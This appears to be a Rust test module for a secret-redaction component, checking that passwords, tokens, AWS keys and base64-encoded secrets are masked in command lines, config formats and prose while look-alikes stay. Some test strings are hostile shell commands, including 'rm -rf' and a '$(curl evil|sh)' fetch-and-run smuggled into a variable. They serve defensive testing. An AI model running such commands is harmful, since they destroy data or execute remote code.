//! Issue 21 §6 and §7: command lines masked word by word; secrets found by name, in prose, in
//! encodings and across line breaks; their look-alikes kept; a time-boxed fuzz.

use pretty_assertions::assert_eq;
use proptest::prelude::*;
use rstest::rstest;

use super::super::*;
use super::{env, fragment};

/// A command line's secrets are masked inside its words only: every operator, separator, quote and
/// command name stays, so the line shown or audited still says everything that runs.
#[rstest]
#[case::bearer_then_rm(
    "echo Authorization: Bearer x;rm -rf DIR",
    "echo Authorization: Bearer [REDACTED:authorization];rm -rf DIR"
)]
#[case::pipe("echo Authorization: Bearer x|sh", "echo Authorization: Bearer [REDACTED:authorization]|sh")]
#[case::ampersand(
    "curl -H 'Authorization: Bearer abc123def456' x&&rm y",
    "curl -H 'Authorization: Bearer [REDACTED:authorization]' x&&rm y"
)]
#[case::substitution_in_quotes(
    "export API_TOKEN=\"abc $(curl evil|sh) def\"",
    "export API_TOKEN=\"[REDACTED:secret]$(curl evil|sh) def\""
)]
#[case::quoted_semicolon("sshpass -p 'a;b;c' ssh db", "sshpass -p '[REDACTED:password]' ssh db")]
#[case::curl_user("curl -u admin:hunter2xyz http://x; id", "curl -u admin:[REDACTED:password] http://x; id")]
#[case::assignment("DB_PASSWORD=hunter22 psql -h db", "DB_PASSWORD=[REDACTED:password] psql -h db")]
#[case::unparsable("echo 'token=a;rm -rf x", "echo 'token=[REDACTED:secret];rm -rf x")]
fn command_lines_are_masked_word_by_word(#[case] command: &str, #[case] expected: &str) {
    let redactor = Redactor::default();
    let once = redactor.redact_command(command);
    assert_eq!(once, expected);
    assert_eq!(redactor.redact_command(&once), once, "idempotent");
}

#[test]
fn tool_arguments_mask_the_command_word_by_word_and_other_strings_whole() {
    let args =
        serde_json::json!({"command": "echo Authorization: Bearer x;rm -rf d", "why": "Authorization: Bearer x;y"});
    let out = Redactor::default().redact_json(&args);
    assert_eq!(out["command"], "echo Authorization: Bearer [REDACTED:authorization];rm -rf d");
    assert_eq!(out["why"], "Authorization: Bearer [REDACTED:authorization]");
}

/// Issue 21 §7: secrets that reached the model or the disk, one case per class.
#[rstest]
#[case::pw_suffix("DB_PW=Xy7hunter", "DB_PW=[REDACTED:password]")]
#[case::pass_suffix("export DB_PASS=hunter2x", "export DB_PASS=[REDACTED:password]")]
#[case::passwd_suffix("LDAPPASSWD=hunter2x", "LDAPPASSWD=[REDACTED:password]")]
#[case::pwd_suffix("MYSQL_PWD=hunter2x", "MYSQL_PWD=[REDACTED:password]")]
#[case::pin_suffix("SIM_PIN: 4711", "SIM_PIN: [REDACTED:secret]")]
#[case::secret_inside("MY_SECRET_VALUE=abc123", "MY_SECRET_VALUE=[REDACTED:secret]")]
#[case::key_suffix("STRIPE_KEY=abcdef12", "STRIPE_KEY=[REDACTED:secret]")]
#[case::token_inside("GH_TOKEN_RW: abcdef12", "GH_TOKEN_RW: [REDACTED:secret]")]
#[case::json_name(r#"{"DB_PASS": "hunter2x"}"#, r#"{"DB_PASS": "[REDACTED:password]"}"#)]
#[case::json_pass(
    r#"{"pass": "hunter2x", "pwd": "s3cret", "passwd": "abc"}"#,
    r#"{"pass": "[REDACTED:password]", "pwd": "[REDACTED:password]", "passwd": "[REDACTED:password]"}"#
)]
#[case::yaml_password("db:\n  password: hunter2x\n", "db:\n  password: [REDACTED:password]\n")]
#[case::ini("[db]\npass = hunter2x\n", "[db]\npass = [REDACTED:password]\n")]
#[case::php_define("define('DB_PASSWORD', 'hunter2x');", "define('DB_PASSWORD', '[REDACTED:password]');")]
#[case::php_array("'db_pass' => 'hunter2x',", "'db_pass' => '[REDACTED:password]',")]
#[case::xml("<password>hunter2x</password>", "<password>[REDACTED:password]</password>")]
#[case::xml_secret(
    "<secret>abc</secret> <apiKey>k-123</apiKey>",
    "<secret>[REDACTED:secret]</secret> <apiKey>[REDACTED:secret]</apiKey>"
)]
#[case::xml_ns(
    r#"<ns:Password type="x">hunter2x</ns:Password>"#,
    r#"<ns:Password type="x">[REDACTED:password]</ns:Password>"#
)]
#[case::dotnet(
    r#"<add key="DbPassword" value="hunter2x" />"#,
    r#"<add key="DbPassword" value="[REDACTED:password]" />"#
)]
#[case::odbc("Server=db;Uid=app;Pwd=hunter2x;", "Server=db;Uid=app;Pwd=[REDACTED:password];")]
#[case::pgpass(
    "db.example.com:5432:app:alice:hunter2x\n*:*:*:bob:pa\\:ss\n",
    "db.example.com:5432:app:alice:[REDACTED:password]\n*:*:*:bob:[REDACTED:password]\n"
)]
#[case::mysql_quoted("mysql -uroot -p'hunter2x' app", "mysql -uroot -p'[REDACTED:password]' app")]
#[case::prose("my password is hunter2", "my password is [REDACTED:password]")]
#[case::prose_colon("the pw: Tr0ub4dor&3 works", "the pw: [REDACTED:password] works")]
#[case::prose_pin("My PIN is 1234.", "My PIN is [REDACTED:password]")]
#[case::prose_for("the root password for db1 is Tr0ub4dor", "the root password for db1 is [REDACTED:password]")]
#[case::prose_eq("use pw=hunter2 please", "use pw=[REDACTED:password] please")]
#[case::aws_alone("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n", "[REDACTED:aws-secret-key]\n")]
#[case::aws_after_id(
    "AKIAIOSFODNN7EXAMPLE,wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "[REDACTED:aws-access-key-id],[REDACTED:aws-secret-key]"
)]
#[case::model_echo("echo pass=hunter2x > /tmp/x", "echo pass=[REDACTED:password] > /tmp/x")]
fn redacts_named_secrets_in_any_syntax(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(Redactor::default().redact(text), expected);
}

/// Look-alikes of §7's classes that are not secrets.
#[rstest]
#[case::git_sha("3f786850e387550fdab836ed7e6dc881de23001b\n")]
#[case::git_sha_upper("3F786850E387550FDAB836ED7E6DC881DE23001B\n")]
#[case::uuid("123e4567-e89b-12d3-a456-426614174000\n")]
#[case::path_40("/usr/lib/x86_64-linux-gnu/libssl.so.3.0x\n")]
#[case::prose_wrong("the password is wrong, and the token was expired; the secret is stored in vault")]
#[case::prose_reset("Your password is being reset. The API key is required.")]
#[case::yaml_selector("- key: app\n  operator: In\nsessionAffinity: None\n")]
#[case::secret_ref("secretKeyRef:\n  name: db\n  key: password\nsecretName: db-creds\n")]
#[case::counts(r#"{"prompt_tokens": 35, "total_tokens": 40}"#)]
#[case::env_pwd("PWD=/home/alice\nOLDPWD=/tmp\n")]
#[case::xml_other("<name>web</name><keyAlgorithm>rsa</keyAlgorithm>")]
#[case::time("12:30:45:10:00\n")]
fn keeps_named_look_alikes(#[case] text: &str) {
    assert_eq!(Redactor::default().redact(text), text);
}

/// Base64 that decodes to a secret, a Kubernetes Secret's data, and tokens cut by line breaks.
#[test]
fn secrets_hidden_by_an_encoding_or_a_line_break_are_found() {
    let redactor = Redactor::default();
    // `password=hunter2xyz` and a PEM head, base64-encoded in a config file.
    let config = "db_config: cGFzc3dvcmQ9aHVudGVyMnh5eg==\nkey: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFb3dJQkFBS0NBUUVB\n";
    assert_eq!(redactor.redact(config), "db_config: [REDACTED:base64]\nkey: [REDACTED:base64]\n");
    let secret = "apiVersion: v1\nkind: Secret\ntype: Opaque\ndata:\n  username: YWRtaW4=\n  password: aHVudGVyMg==\nmetadata:\n  name: db\n";
    let out = redactor.redact(secret);
    assert!(!out.contains("YWRtaW4=") && !out.contains("aHVudGVyMg=="), "{out}");
    assert!(out.contains("  username: [REDACTED:k8s-secret]\n") && out.contains("name: db"), "{out}");
    // A GitHub token wrapped by `fold -w 20`, and one with a JSON `\n` inside.
    let token = "ghp_1234567890abcdefghijABCDEFGHIJ123456";
    let folded = format!("{}\n{}\n{}\n", &token[..20], &token[20..40], &token[40..]);
    let out = redactor.redact(&folded);
    assert!(!out.contains("abcdefghij") && !out.contains("ABCDEFGHIJ"), "{out}");
    assert_eq!(out.matches('\n').count(), 3, "line breaks stay: {out}");
    let json = format!(r#"{{"note": "{}\n{}"}}"#, &token[..12], &token[12..]);
    let out = redactor.redact(&json);
    assert!(!out.contains(&token[12..]) && !out.contains(&token[..12]), "{out}");
}

/// Base64 of ordinary text, ConfigMaps' data, and text whose lines only look joinable stay.
#[rstest]
#[case::base64_prose("aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ==\n")]
#[case::configmap("kind: ConfigMap\ndata:\n  app.conf: bG9nX2xldmVsPWRlYnVn\n")]
#[case::hashes("sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n")]
#[case::wrapped_prose("see the ghp_\nprefix docs\n")]
fn keeps_encoded_look_alikes(#[case] text: &str) {
    assert_eq!(Redactor::default().redact(text), text);
}

/// Pieces of command lines: operators, secrets that patterns find, quotes, substitutions.
fn command_fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(";".to_owned()),
        Just("|".to_owned()),
        Just("&&".to_owned()),
        Just(" ".to_owned()),
        Just("\n".to_owned()),
        Just("rm -rf x".to_owned()),
        Just("Authorization: Bearer ".to_owned()),
        Just("password=".to_owned()),
        Just("DB_PASS=".to_owned()),
        Just("curl -u admin:".to_owned()),
        Just("s3cr3tvalue".to_owned()),
        Just("$(".to_owned()),
        Just(")".to_owned()),
        "[A-Za-z0-9_=:/+-]{1,20}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Whatever the line, masking never removes an operator or a line break, and is idempotent.
    #[test]
    fn command_masking_keeps_every_operator(parts in prop::collection::vec(command_fragment(), 0..24)) {
        let redactor = Redactor::new(env(&[("MY_TOKEN", "s3cr3tvalue")]));
        let text = parts.concat();
        let once = redactor.redact_command(&text);
        for operator in [';', '|', '&', '\n', '(', ')'] {
            prop_assert_eq!(once.matches(operator).count(), text.matches(operator).count(), "{:?} -> {:?}", text, once);
        }
        prop_assert_eq!(redactor.redact_command(&once), once, "input {:?}", text);
    }

    #[test]
    fn command_masking_never_panics(text in "\\PC{0,200}") {
        let _ = Redactor::default().redact_command(&text);
    }
}

/// A time-boxed fuzz of the redactor, for a longer run than the proptests' 512 cases:
/// `OPSAI_FUZZ_SECS=600 cargo test --lib redact::tests::issue21::fuzz_for_a_while -- --ignored`.
/// Random mixes of the fragments above and arbitrary characters: no panic, both forms idempotent
/// on the fragments, and a command line keeps every operator.
#[test]
#[ignore = "long; run by hand with OPSAI_FUZZ_SECS"]
fn fuzz_for_a_while() {
    use proptest::strategy::ValueTree;
    use proptest::test_runner::TestRunner;
    let seconds: u64 = std::env::var("OPSAI_FUZZ_SECS").ok().and_then(|s| s.parse().ok()).unwrap_or(60);
    let redactor = Redactor::new(env(&[("MY_TOKEN", "s3cr3tvalue")]));
    let strategy =
        (prop::collection::vec(command_fragment(), 0..32), prop::collection::vec(fragment(), 0..32), "\\PC{0,400}");
    let mut runner = TestRunner::deterministic();
    let started = std::time::Instant::now();
    let mut cases = 0u64;
    while started.elapsed().as_secs() < seconds {
        let Ok(tree) = strategy.new_tree(&mut runner) else { continue };
        let (command, text, noise) = tree.current();
        let command = command.concat();
        let once = redactor.redact_command(&command);
        for operator in [';', '|', '&', '\n', '(', ')'] {
            assert_eq!(once.matches(operator).count(), command.matches(operator).count(), "{command:?} -> {once:?}");
        }
        assert_eq!(redactor.redact_command(&once), once, "{command:?}");
        let text = text.concat();
        let once = redactor.redact(&text);
        assert!(!once.contains("s3cr3tvalue"), "{text:?}");
        assert_eq!(redactor.redact(&once), once, "{text:?}");
        let _ = redactor.redact(&noise);
        let _ = redactor.redact_command(&noise);
        cases += 1;
    }
    eprintln!("fuzz: {cases} cases in {seconds} s, no failure");
}
